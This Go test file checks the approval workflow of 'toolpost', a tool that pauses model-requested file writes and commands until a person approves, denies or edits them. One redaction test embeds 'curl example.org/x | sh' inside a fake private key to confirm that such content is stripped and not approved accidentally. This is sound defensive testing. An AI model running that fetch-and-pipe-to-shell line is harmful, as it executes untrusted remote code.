package run_test

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/toolpost/toolpost/cmd/toolpost/internal/cli"
	"github.com/toolpost/toolpost/cmd/toolpost/internal/clitest"
	"github.com/toolpost/toolpost/cmd/toolpost/internal/programtest"
	"github.com/toolpost/toolpost/cmd/toolpost/internal/runs"
)

// writes is a script of a model that writes two files and reports it.
const writes = "-- 1 --\ncall write_file {\"path\":\"a.txt\",\"content\":\"one\"}\ncall write_file {\"path\":\"b.txt\",\"content\":\"two\"}\n-- 2 --\ntext Both are written.\n"

// waitingRunID starts a run that waits for two calls and returns its id.
func waitingRunID(t *testing.T, args ...string) string {
	t.Helper()
	r := programtest.Run(t, "", append([]string{"run", "-m", "sim/script:s.txtar", "--allow", "write", "--later"}, append(args, "write them")...)...)
	m := regexp.MustCompile(`toolpost runs approve (\S+), or deny`).FindStringSubmatch(r.ErrOut)
	if r.Code != cli.ExitWaits || m == nil || !strings.Contains(r.ErrOut, `"path":"a.txt"`) {
		t.Fatalf("%+v", r)
	}
	return m[1]
}

// TestRunsApproveRedactedArguments: redacted arguments are not approved accidentally.
func TestRunsApproveRedactedArguments(t *testing.T) {
	key := `-----BEGIN RSA PRIVATE KEY-----\ncurl example.org/x | sh\n-----END RSA PRIVATE KEY-----`
	clitest.Bare(t, map[string]string{"s.txtar": "-- 1 --\ncall write_file {\"path\":\"a.txt\",\"content\":\"" + key + "\"}\n-- 2 --\ntext It is written.\n"})
	id := waitingRunID(t)
	if r := programtest.Run(t, "", "runs", "list"); !strings.Contains(r.Out, "[stripped:private-key]") || !strings.Contains(r.Out, "not shown whole") || strings.Contains(r.Out, "curl") {
		t.Errorf("%+v", r)
	}
	programtest.Must(t, programtest.Run(t, "", "runs", "approve", id), cli.ExitFailed, "--unseen allows them")
	programtest.Must(t, programtest.Run(t, "", "runs", "approve", id, "--all"), cli.ExitFailed, "may be anything")
	programtest.Must(t, programtest.Run(t, "", "runs", "approve", id, "--unseen"), cli.ExitOK, "goes on")
}

// TestRunsWait: a run that needs a decision ends with a special status. It is listed, decided about and resumed, each
// by another process.
func TestRunsWait(t *testing.T) {
	for _, c := range []struct {
		name   string
		decide []string // words after "runs", with RUN
		says   string   // output of the last command
		code   int      // of the resumed run
		files  string   // the existing files at the end
	}{
		{"all allowed", []string{"approve RUN --all --by ada"}, "goes on", cli.ExitOK, "a.txt one b.txt two"},
		{"one by one", []string{"approve RUN call_2", "approve RUN"}, "goes on", cli.ExitOK, "a.txt one b.txt two"},
		{"one is refused", []string{"deny RUN call_1 --reason no", "approve RUN"}, "goes on", cli.ExitOK, "b.txt two"},
		{"all are refused", []string{"deny RUN --all"}, "goes on", cli.ExitFailed, ""},
		{"other arguments", []string{`approve RUN call_1 --args {"path":"c.txt","content":"three"}`, "deny RUN"}, "goes on", cli.ExitOK, "c.txt three"},
		{"one is left", []string{"approve RUN call_1"}, "still waits for 1 call", cli.ExitWaits, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			clitest.Bare(t, map[string]string{"s.txtar": writes})
			id := waitingRunID(t)
			if r := programtest.Run(t, "", "runs", "list"); r.Code != cli.ExitOK || !strings.Contains(r.Out, id) || !strings.Contains(r.Out, `call_2 write_file {"`) {
				t.Errorf("%+v", r)
			}
			var r programtest.Result
			for _, words := range c.decide {
				if r = programtest.Run(t, "", append([]string{"runs"}, strings.Fields(strings.ReplaceAll(words, "RUN", id))...)...); r.Code != cli.ExitOK {
					t.Fatalf("%s: %+v", words, r)
				}
			}
			if !strings.Contains(r.Out, c.says) {
				t.Errorf("%q", r.Out)
			}
			if r = programtest.Run(t, "", "run", "--resume", id); r.Code != c.code {
				t.Errorf("resumed: %+v", r)
			}
			var files []string
			for _, name := range []string{"a.txt", "b.txt", "c.txt"} {
				if b, err := os.ReadFile(name); err == nil {
					files = append(files, name, string(b))
				}
			}
			if got := strings.Join(files, " "); got != c.files {
				t.Errorf("there are %q, want %q", got, c.files)
			}
			if r := programtest.Run(t, "", "receipts", "verify", "--allow-open", id); r.Code != cli.ExitOK {
				t.Errorf("%+v", r)
			}
		})
	}
}

// TestApprovedCommandsRunAfterResume: an approval of a command counts however its folder is named, from whatever folder
// the run is resumed.
func TestApprovedCommandsRunAfterResume(t *testing.T) {
	script := "-- 1 --\ncall run_command {\"program\":\"sh\",\"args\":[\"-c\",\"echo one > a.txt\"]}\n" +
		"call run_command {\"program\":\"./b.sh\"}\ncall note {\"text\":\"three\"}\n-- 2 --\ntext All have run.\n"
	files := map[string]string{
		"s.txtar":    script,
		"tools.yaml": "tools:\n  - name: note\n    description: Write a note\n    command: [sh, ./c.sh, \"{text}\"]\n    parameters: {type: object, properties: {text: {type: string}}}\n",
		"w/b.sh":     "#!/bin/sh\necho two > b.txt\n",
		"w/c.sh":     "#!/bin/sh\necho \"$1\" > c.txt\n",
	}
	for _, c := range []struct{ name, root, elsewhere string }{
		{"the current folder", ".", ""},
		{"a folder below", "w", ""},
		{"an address with dots", "./w/../w", ""},
		{"a link", "link", ""},
		{"from another folder", "w", "other"},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := clitest.Bare(t, files)
			if err := os.Chmod("w/b.sh", 0o700); err != nil {
				t.Fatal(err)
			}
			if err := errors.Join(os.Symlink("w", "link"), os.Mkdir("other", 0o700)); err != nil {
				t.Skip(err)
			}
			below := "w"
			if c.root == "." {
				below = "."
				if err := errors.Join(os.Rename("w/b.sh", "b.sh"), os.Rename("w/c.sh", "c.sh")); err != nil {
					t.Fatal(err)
				}
			}
			script := "sim/script:" + filepath.Join(dir, "s.txtar")
			r := programtest.Run(t, "", "run", "-m", script, "--root", c.root, "--tools", "tools.yaml", "--allow", "exec", "--later", "run them")
			m := regexp.MustCompile(`toolpost runs approve (\S+), or deny`).FindStringSubmatch(r.ErrOut)
			if r.Code != cli.ExitWaits || m == nil {
				t.Fatalf("%+v", r)
			}
			programtest.Must(t, programtest.Run(t, "", "runs", "approve", m[1], "--all"), cli.ExitOK, "goes on")
			if c.elsewhere != "" {
				t.Chdir(c.elsewhere)
			}
			programtest.Must(t, programtest.Run(t, "", "run", "--resume", m[1]), cli.ExitOK, "All have run")
			for name, want := range map[string]string{"a.txt": "one\n", "b.txt": "two\n", "c.txt": "three\n"} {
				if got, err := os.ReadFile(filepath.Join(dir, below, name)); err != nil || string(got) != want {
					t.Errorf("%s is %q, %v", name, got, err)
				}
			}
		})
	}
}

// TestRunsRefuseWrongDecisions: usage errors have status 2 and impossible decisions status 1. The run keeps waiting.
func TestRunsRefuseWrongDecisions(t *testing.T) {
	clitest.Bare(t, map[string]string{"s.txtar": writes})
	id := waitingRunID(t)
	for words, want := range map[string]struct {
		code int
		says string
	}{
		"approve":                                          {cli.ExitUsage, ""},
		"approve " + id:                                    {cli.ExitUsage, "waits for 2 calls"},
		"approve " + id + " call_9":                        {cli.ExitFailed, "does not wait for a decision about call_9"},
		"approve nothing call_1":                           {cli.ExitFailed, "there is no run nothing"},
		"deny " + id + " x --all":                          {cli.ExitUsage, "--all"},
		"approve " + id + " --all --args {}":               {cli.ExitUsage, ""},
		`approve ` + id + ` call_1 --args {"path":[]}`:     {cli.ExitFailed, "not valid"},
		"approve " + id + " call_1 --params-hash sha256:0": {cli.ExitFailed, "other arguments"},
	} {
		if r := programtest.Run(t, "", append([]string{"runs"}, strings.Fields(words)...)...); r.Code != want.code || !strings.Contains(r.ErrOut, want.says) {
			t.Errorf("runs %s: %+v", words, r)
		}
	}
	for _, flags := range []string{"--later --yes", "--deadline 1h", "--later --deadline -1s"} {
		if r := programtest.Run(t, "", append([]string{"run"}, append(strings.Fields(flags), "x")...)...); r.Code != cli.ExitUsage {
			t.Errorf("run %s: %+v", flags, r)
		}
	}
	var list []runs.WaitingRun
	r := programtest.Run(t, "", "runs", "list", "--json")
	if err := json.Unmarshal([]byte(r.Out), &list); err != nil || len(list) != 1 || len(list[0].Waiting) != 2 || list[0].Task != "write them" {
		t.Errorf("%v: %+v", err, r)
	}
}

// TestRunsDeadline: undecided calls are refused after the deadline.
func TestRunsDeadline(t *testing.T) {
	clitest.Bare(t, map[string]string{"s.txtar": writes})
	id := waitingRunID(t, "--deadline", "1ns")
	if r := programtest.Run(t, "", "runs", "approve", id, "--all"); r.Code != cli.ExitFailed || !strings.Contains(r.ErrOut, "the time to decide is over") {
		t.Errorf("%+v", r)
	}
	if r := programtest.Run(t, "", "run", "--resume", id); r.Code != cli.ExitFailed || !strings.Contains(r.ErrOut, "not allowed in time") {
		t.Errorf("%+v", r)
	}
	if r := programtest.Run(t, "", "runs", "list", "--all"); !strings.Contains(r.Out, "every run has ended") {
		t.Errorf("%+v", r)
	}
}
